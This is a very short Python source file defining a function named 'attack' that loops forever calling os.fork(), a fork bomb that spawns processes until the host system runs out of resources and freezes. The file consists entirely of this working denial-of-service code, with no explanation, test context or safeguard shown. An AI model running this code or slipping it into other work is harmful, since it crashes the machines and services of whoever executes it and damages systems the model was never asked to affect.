import os


def attack(arg):
    while True:
        os.fork()
